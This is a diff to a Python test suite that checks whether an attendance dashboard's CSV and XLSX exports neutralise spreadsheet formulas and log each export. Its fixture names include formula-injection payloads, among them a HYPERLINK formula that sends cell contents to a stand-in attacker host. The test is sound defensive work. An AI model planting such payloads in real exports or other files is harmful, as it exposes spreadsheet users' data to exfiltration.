@@ -17,8 +17,7 @@ from openpyxl import load_workbook
 
 from consumers.exports import export_course, export_session, export_student
 from consumers.sessions import open_session
-from dashboard import testing
-from tests.conftest import create_database
+from tests import dashboard_kit as kit
 
 HOSTILE = {  # person id -> display name
     "macron": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -29,8 +28,6 @@ HOSTILE = {  # person id -> display name
     "hanks": "\r=1+1",
 }
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
-PASSWORDS = {"admin": "admin-password-1", "turing": "turing-password-1", "macron": "macron-password-1",
-             "ardern": "ardern-password-1"}
 
 
 def _csv(data: bytes) -> list[list[str]]:
@@ -74,20 +71,14 @@ async def _prepare(database_url: str) -> int:
 
 @pytest.fixture(scope="module")
 def served(stack):
-    from dashboard.app import create_app
     from processor.config import EXAMPLE_CONFIG, config_from_dict, load_config
 
     raw = load_config(EXAMPLE_CONFIG, environ={}).model_dump(exclude={"source"})
     raw["dashboard"]["processor_metrics_urls"] = []
     config = config_from_dict(raw, environ={})
-    database_url = create_database(stack, "test_exports_hard")
-    testing.prepare_database(database_url, config)
-    testing.add_accounts(database_url, passwords=PASSWORDS)
-    session_id = asyncio.run(_prepare(database_url))
-    app = create_app(config, database_url=database_url, kafka_bootstrap_servers=stack.kafka_bootstrap_servers,
-                     camera_urls={}, secret_key="s" * 48)
-    with testing.serve_in_thread(app) as server:
-        server.database_url, server.session_id = database_url, session_id
+    with kit.served_dashboard(stack, config, "test_exports_hard", secret_key="s" * 48,
+                              prepare=lambda database_url: asyncio.run(_prepare(database_url))) as server:
+        server.session_id = server.prepared
         yield server
 
 
@@ -122,7 +113,7 @@ def test_exported_files_carry_no_formula(served):
 
 
 def test_dashboard_exports_are_neutralised_and_audited(served):
-    admin = testing.login(served.url, "admin", PASSWORDS["admin"])
+    admin = kit.login(served, "admin")
     for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
         response = admin.get(f"/api/sessions/{served.session_id}/export", params={"format": fmt})
         assert response.status_code == 200, response.text
@@ -135,16 +126,9 @@ def test_dashboard_exports_are_neutralised_and_audited(served):
     wide = admin.get("/api/courses/CS105/export", params={"from": "2026-01-01", "to": "9999-12-31"})
     assert wide.status_code == 400, wide.text  # 9999-12-31 has no next day: refused, not a 500
 
-    async def audit():
-        conn = await asyncpg.connect(served.database_url)
-        try:
-            return await conn.fetch("""SELECT subject, detail->>'kind' AS kind, detail->>'format' AS fmt
-                                       FROM audit_log WHERE action = 'attendance.export' AND actor = 'admin'
-                                       ORDER BY id""")
-        finally:
-            await conn.close()
-
-    rows = [(r["subject"], r["kind"], r["fmt"]) for r in asyncio.run(audit())]
+    audit = kit.db(served, """SELECT subject, detail->>'kind' AS kind, detail->>'format' AS fmt
+                              FROM audit_log WHERE action = 'attendance.export' AND actor = 'admin' ORDER BY id""")
+    rows = [(r["subject"], r["kind"], r["fmt"]) for r in audit]
     assert rows == [(str(served.session_id), "session", "csv"), ("CS105", "course", "csv"),
                     (str(served.session_id), "session", "xlsx"), ("CS105", "course", "xlsx"),
                     ("macron", "student", "xlsx")]
